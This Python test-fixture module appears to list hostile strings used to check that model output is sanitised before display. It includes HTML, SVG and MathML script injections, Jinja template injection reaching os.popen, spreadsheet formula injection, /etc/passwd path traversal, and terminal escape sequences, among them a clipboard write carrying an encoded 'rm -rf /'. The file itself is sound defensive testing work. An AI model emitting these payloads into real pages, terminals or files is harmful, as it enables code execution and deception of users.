"""What models may write to whoever shows it: one set for pages, terminals and files.

What acts in a page calls `hit()` or asks HOST for something; what acts on a terminal is a control
character; what is only odd must come out as it is.
"""

HOST = "//evil.invalid"
CALL = "hit()"
ESC, CSI, OSC, ST = "\x1b", "\x9b", "\x9d", "\x9c"

ELEMENTS = {
    "script": f"<script>{CALL}</script>",
    "script in capitals": f"<SCRIPT>{CALL}</SCRIPT >",
    "script inside script": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script from elsewhere": f"<script src={HOST}/x.js></script>",
    "module": f"<script type=module>import '{HOST}/x.js'</script>",
    "end of script": f"</script><script>{CALL}</script>",
    "end of the data": f'"}}]</script><script>{CALL}</script>',
    "end of title, style and textarea": f"</title></style></textarea><script>{CALL}</script>",
    "end of the picture": f"</text></svg><script>{CALL}</script>",
    "end of a comment": f"--><script>{CALL}</script><!--",
    "comment that ends at once": f"<!--><img src=x onerror={CALL}>-->",
    "start of a comment": "<!-- and nothing else",
    "start of a comment in script": "<!--<script>",
    "CDATA": f"]]><script>{CALL}</script><![CDATA[",
    "processing instruction": f"<?xml-stylesheet href='{HOST}/x.xsl'?>",
    "doctype with an entity": '<!DOCTYPE x [<!ENTITY a "&a;&a;">]>&a;',
    "image that fails": f"<img src=x onerror={CALL}>",
    "image without an end": f"<img src=x onerror='{CALL}'",
    "pixel": f"<img src={HOST}/pixel.gif>",
    "svg": f"<svg onload={CALL}><script>{CALL}</script></svg>",
    "svg that moves": f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    "svg that uses": f"<svg><use href='{HOST}/x.svg#a'/></svg>",
    "svg that uses itself": f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/>",
    "foreign object": f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "script in mathematics": f"<math><mtext><script>{CALL}</script></mtext></math>",
    "mathematics with a link": f"<math href='javascript:{CALL}'><mtext>x</mtext></math>",
    "mathematics that acts": f"<math><maction xlink:href='javascript:{CALL}'>x</maction></math>",
    "frame": f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    "frame with a script's address": f"<iframe src='javascript:parent.{CALL}'></iframe>",
    "frame elsewhere": f"<iframe src={HOST}></iframe>",
    "object": f"<object data='javascript:{CALL}'></object><embed src={HOST}>",
    "link": f"<a href='javascript:{CALL}' autofocus onfocus={CALL}>x</a>",
    "details": f"<details open ontoggle={CALL}>x</details>",
    "dialog": f"<dialog open><script>{CALL}</script></dialog>",
    "input": f"<input autofocus onfocus={CALL}>",
    "body": f"<body onload={CALL} onpageshow={CALL}>",
    "video": f"<video src=x onerror={CALL}><source onerror={CALL}></video>",
    "style": f"<style>@import '{HOST}/x.css'; * {{ display: none }}</style>",
    "style of one": f"<p style='position:fixed;inset:0;background:url({HOST})'>x</p>",
    "element of its own": f"<x-y onclick={CALL} style=position:fixed;inset:0>x</x-y>",
    "stylesheet": f"<link rel=stylesheet href={HOST}/x.css>",
    "refresh": f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "base": f"<base href={HOST}/>",
    "form": f"<form action={HOST} id=data><input name=rows><button autofocus>x</button></form>",
    "template": f"<template shadowrootmode=open><script>{CALL}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    "names of pages": "<p id=data></p><p id=samples-body></p><a id=up name=root></a><p id=state>",
}
QUOTES = {
    "double quote": f'" onmouseover="{CALL}" autofocus onfocus="{CALL}',
    "double quote and end": f'"><script>{CALL}</script>',
    "single quote": f"' onmouseover='{CALL}' x='",
    "backtick": f"`${{{CALL}}}`",
    "backtick and end": f"`;{CALL};`",
    "end of a string": f'\\";{CALL};//',
    "template syntax": f"{{{{ {CALL} }}}}",
    "jinja": "{{ cycler.__init__.__globals__.os.popen('touch hit').read() }}{% include 'x' %}",
    "a loop of jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "javascript": f"javascript:{CALL}",
    "data": f"data:text/html,<script>{CALL}</script>",
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;script&#62;",
    "escapes": f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e \\x3cscript\\x3e",
    "halves of signs as escapes": "\\ud800\\udfff \\uD83D",
    "UTF-7": f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    "prototype": f'{{"__proto__": {{"href": "javascript:{CALL}"}}}}',
    "end and prototype": '__proto__","constructor":{"x":1}',
    "name of a prototype": "__proto__",
    "name of a constructor": "constructor",
    "formula of a spreadsheet": '=HYPERLINK("http://evil.invalid")',
    "command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lines of a spreadsheet": 'a","b"\r\n=1+1',
    "address": "%00%E0%A4%A #sample=1&filter=x:y,z",
    "way": "../../../etc/passwd?x=1#y",
}
FORMULAS = {
    "script in text": f"$\\text{{<script>{CALL}</script>}}$",
    "image in a box": f"$\\mbox{{<img src=x onerror={CALL}>}}$",
    "svg in an operator": f"\\[\\operatorname{{<svg onload={CALL}>}}\\]",
    "end of mathematics": f"$\\text{{</mtext></math><img src=x onerror={CALL}>}}$",
    "link in mathematics": f"$\\href{{javascript:{CALL}}}{{x}}$",
    "style in mathematics": f"$\\style{{background:url({HOST})}}{{x}}$ $\\class{{bar}}{{y}}$",
    "colour that closes": f'$\\color{{red" onclick="{CALL}}}{{x}}$',
    "macro that calls itself": "$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}{\\b\\b}\\b$$",
    "macro that doubles": "$" + "".join(f"\\def\\{a}{{\\{b}\\{b}}}" for a, b in
                                       zip("abcdefghij", "bcdefghijk", strict=True)) + "\\a$",
    "fractions in fractions": "$$" + "\\frac{" * 400 + "1" + "}{2}" * 400 + "$$",
    "braces in braces": "\\(" + "{" * 900 + "}" * 900 + "\\)",
    "powers of powers": "$" + "x^{" * 300 + "}" * 300 + "$",
    "no end": "\\[" * 3_000 + "$" * 3_001 + "\\boxed{" * 3_000,
    "dollars alone": "$" * 20_001,
    "far away": "$\\hspace{999999em}x\\rule{9999em}{9999em}$",
}  # fmt: skip
CONTROLS = {
    "clears the screen": f"{ESC}[2J{ESC}[H",
    "moves up and overwrites": f"dropped{ESC}[1A{ESC}[2Kchosen",
    "paints the rest red": f"{ESC}[31mred",
    "hides what follows": f"{ESC}[8mhidden",
    "blinks": f"{ESC}[5mblink{ESC}[0m",
    "scrolls a region": f"{ESC}[1;2r",
    "switches to the other screen": f"{ESC}[?1049h",
    "hides the cursor": f"{ESC}[?25l",
    "reports mice": f"{ESC}[?1000h",
    "brackets pastes no more": f"{ESC}[?2004l",
    "asks where the cursor is": f"{ESC}[6n",
    "asks what the terminal is": f"{ESC}[c",
    "sets the title": f"{ESC}]0;owned\x07",
    "sets the title, with ST": f"{ESC}]2;owned{ESC}\\",
    "writes to the clipboard": f"{ESC}]52;c;cm0gLXJmIC8K\x07",
    "makes a link to another place": f"{ESC}]8;;http://evil.invalid{ESC}\\key{ESC}]8;;{ESC}\\",
    "shows a picture": f"{ESC}]1337;File=inline=1:AAAA\x07",
    "asks for the colours": f"{ESC}]4;1;?\x07",
    "notifies": f"{ESC}]9;done\x07",
    "resets the terminal": f"{ESC}c",
    "locks the keyboard": f"{ESC}[2h",
    "chooses line drawing": f"{ESC}(0lqqk",
    "begins a device string": f"{ESC}Pq#0;2;0;0;0{ESC}\\",
    "begins an application command": f"{ESC}_Ga=T;AAAA{ESC}\\",
    "begins a private message": f"{ESC}^secret{ESC}\\",
    "an escape at the end": f"so {ESC}",
    "an escape in a number": f"1{ESC}[C2",
    "an escape in a hundred": f"{ESC}[" + "9" * 100 + "m",
    "a C1 control sequence": f"{CSI}2J",
    "a C1 colour": f"{CSI}31mred",
    "a C1 title": f"{OSC}0;owned{ST}",
    "a C1 device string": "\x90q\x9c",
    "next line": "one\x85two",
    "index": "one\x84two",
    "reverse index": "one\x8dtwo",
    "bell": "\x07" * 3,
    "backspaces over the verdict": "incorrect" + "\b" * 9 + "correct",
    "returns over the line": "incorrect\rcorrect  \r\rover",
    "a vertical tabulator": "a\x0bb",
    "a form feed": "a\x0cb",
    "a null": "a\0b\x01",
    "delete": "a\x7fb",
    "shift out": "\x0elqqk\x0f",
    "substitute": "a\x1ab",
    "end of transmission": "\x04",
    "flow control": "\x13",
}
HIDING = {
    "written from right to left": "\u202etcerroc\u202c",
    "embedded from right to left": "\u202btcerroc\u202c",
    "isolated from right to left": "\u2067a\u2069 \u2066b\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "no width at all": "an\u200bsw\u200ber\u2060 \ufeff",
    "joined letters": "a\u200db\u200cc",
    "soft hyphens": "an\u00adswer",
    "a text in tags": "ok\U000e0001\U000e0068\U000e0069\U000e007f",
    "bytes in selectors": "ok\ufe00\ufe01\ufe0f\ufe0f\U000e0100\U000e01ef",
    "fillers": "a\u3164b\uffa0c\u115f\u1160\u17b4d\u2800",
    "invisible operators": "f\u2061x\u2062y\u2063\u2064",
    "deprecated controls": "\u206a\u206f",
    "annotations": "\ufff9a\ufffab\ufffb",
    "line and paragraph separators": f"one\u2028{CALL}\u2029three",
    "a Mongolian separator": "a\u180eb\u180b",
    "marks upon marks": "Z" + "\u0300\u0336\u035c\u0489" * 300,
    "a musical hiding": "\U0001d173a\U0001d17a",
    "private letters": "\ue000\U000f0000\U0010fffd",
    "no letters": "\ufdd0\ufffe\uffff\U0001ffff",
    "wide letters": "\ufdfd" * 200,
}
HALVES = {"half a letter": "\ud83d", "the other half": "\udc00 \udfff"}
PLAIN = {
    "rich's marks": "[bold red]x[/bold red] [/] [link=http://evil.invalid]x[/link]",
    "rich's marks that close nothing": "[/nothing]",
    "rich's pictures": ":smile: :skull:",
    "a format": "%s %n {0} {name!r:>{width}}",
}
LARGE = {
    "one long word": "w" * 200_000,
    "many elements": "<b>" * 40_000,
    "many lines": "\n" * 60_000,
    "brackets": "((((" * 10_000,
    "five megabytes": "five megabytes " * 350_000 + ELEMENTS["script"],
}

WRITABLE = {**ELEMENTS, **QUOTES, **FORMULAS, **CONTROLS, **HIDING, **PLAIN, **LARGE}
"""What it is -> the text, of all that a table can hold."""
HOSTILE = {**WRITABLE, **HALVES}
"""The same with what no table can hold, and Python can."""
BRIEF = {name: text for name, text in HOSTILE.items() if len(text) < 2_000}
"""Those that fit on a screen."""

UNSAFE = frozenset(
    chr(code)
    for low, high in (
        (0x00, 0x08), (0x0B, 0x1F), (0x7F, 0x9F), (0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C),
        (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F), (0x2028, 0x202E),
        (0x2060, 0x206F), (0x2800, 0x2800), (0x3164, 0x3164), (0xD800, 0xF8FF), (0xFDD0, 0xFDEF),
        (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF9, 0xFFFB), (0xFFFE, 0xFFFF),
        (0x1D173, 0x1D17A), (0x1FFFE, 0x1FFFF), (0xE0000, 0x10FFFF),
    )
    for code in range(low, high + 1)
)  # fmt: skip
"""Characters that no terminal and no page may get of a stranger's text, said here once more, by
code points."""


def raw(output: str) -> set[str]:
    """The unsafe characters in what came out."""
    return set(output) & UNSAFE
